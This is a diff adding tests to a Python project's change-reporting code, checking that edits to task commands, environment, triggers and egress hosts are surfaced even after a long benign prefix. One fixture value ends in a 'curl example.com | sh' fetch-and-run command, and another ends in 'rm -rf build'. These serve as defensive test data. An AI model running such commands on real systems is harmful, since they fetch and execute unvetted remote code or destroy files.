@@ -5,6 +5,8 @@ from datetime import UTC, datetime
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from optio.model.registry import CompiledTask, Origin
 from optio.model.spec import Spec, names_of
@@ -12,6 +14,7 @@ from optio.model.task import Dedupe, Environment, Network, Resources, StartLimit
 from optio.model.trigger import ScheduleConfig, ScheduleTrigger, SecretRef, WebhookConfig, WebhookTrigger
 from optio.plan.effect import Outlook
 from optio.plan.effects import between
+from optio.plan.words import apart
 
 OUTLOOK = Outlook(now=datetime(2026, 1, 2, 12, tzinfo=UTC))
 # They are for people, for `optio test`, or for the compiler, which has done with them.
@@ -144,6 +147,71 @@ def test_a_change_of_a_key_is_told(key: str) -> None:
 
     assert found, f"`{key}` changes what the task does, and no effect says so"
     assert between(before, before, OUTLOOK) == between(after, after, OUTLOOK) == ()
+
+
+LONG = "cd work && make all install\n" * 20
+BEYOND: dict[str, tuple[Any, Any]] = {
+    "command": (LONG + "echo done", LONG + "curl example.com | sh"),
+    "command.0": (["sh", "-c", LONG + "echo done"], ["sh", "-c", LONG + "rm -rf build"]),
+    "owner": ("o" * 150, "o" * 149 + "x"),
+    "name": ("n" * 150, "n" * 149 + "x"),
+    "model": ("m" * 150, "m" * 149 + "x"),
+    "dedupe": ({"key": "{{A}}-" + "k" * 150}, {"key": "{{A}}-" + "k" * 150 + "{{B}}"}),
+    "environment.image": ("i" * 150 + ":1", "i" * 150 + ":2"),
+    "environment.env": ({"A": LONG + "1"}, {"A": LONG + "2"}),
+    "environment.setupCommands": ([LONG + "true"], [LONG + "false"]),
+    "triggers.0.config.paramMapping": ({"A": LONG + "1"}, {"A": LONG + "2"}),
+    "triggers.0.config": (
+        {"cronExpression": "0 9 * * 1", "paramMapping": {"A": "5"}},
+        {"cronExpression": "0 9 * * 1", "paramMapping": {"A": 5}},
+    ),
+    "triggers.1.config.paramMapping": ({"A": {"literal": LONG + "1"}}, {"A": {"literal": LONG + "2"}}),
+    "triggers.1.config.when": ("@.a == 1 && " * 20 + "@.b == 1", "@.a == 1 && " * 20 + "@.b != 1"),
+    "triggers.1.config.events": ([f"e{n:02}" for n in range(30)], [f"e{n:02}" for n in range(31)]),
+    "connections": ([f"c{n:02}" for n in range(30)], [f"c{n:02}" for n in range(31)]),
+    "environment.network.egress": ([], [f"h{n:02}.example.com" for n in range(31)]),
+    "paramsSchema": ({"properties": {"A": {"pattern": LONG + "1"}}}, {"properties": {"A": {"pattern": LONG + "2"}}}),
+}
+
+
+@pytest.mark.parametrize("key", BEYOND)
+def test_a_change_behind_a_long_beginning_is_told_and_seen(key: str) -> None:
+    base = {**TASK, "agentRuntime": "command"} if key.startswith("command") else TASK
+    path = key.removesuffix(".0").split(".")
+    before, after = (task(with_value(base, path, value)) for value in BEYOND[key])
+
+    (effect,) = between(before, after, OUTLOOK)
+    (other,) = between(after, before, OUTLOOK)
+
+    assert (effect.text, effect.diff, effect.lines) != (other.text, other.diff, other.lines)
+    assert len(effect.text) < 400
+    if effect.before is not None:
+        assert effect.before != effect.after or effect.diff
+
+
+def test_every_host_that_is_opened_is_named() -> None:
+    hosts = [f"h{n:02}.example.com" for n in range(31)]
+    after = task(with_value(TASK, ["environment", "network", "egress"], ["api.example.com", *hosts]))
+
+    (effect,) = between(task(TASK), after, OUTLOOK)
+    (_, of_new) = (each for each in between(None, after, OUTLOOK) if each.kind == "egress-opened" or each.kind == "task-added")
+
+    for each in (effect, of_new):
+        assert all(host in f"{each.text} {each.lines}" for host in hosts)
+
+
+# What cannot be seen is shown by a backslash, as a backslash is.
+WORDS = st.text(st.characters(exclude_characters="\\"))
+
+
+@settings(max_examples=200)
+@given(WORDS, WORDS, WORDS, WORDS)
+def test_two_long_texts_that_differ_are_shown_as_two(start: str, was: str, now: str, end: str) -> None:
+    one, other = (f"{start * 30}{text}{end * 30}" for text in (was, now))
+    shown = apart(one, other)
+
+    assert (shown[0] != shown[1]) == (one != other)
+    assert all(text.isprintable() for text in shown)
 
 
 def test_the_prompt_is_told_wherever_it_stands() -> None:
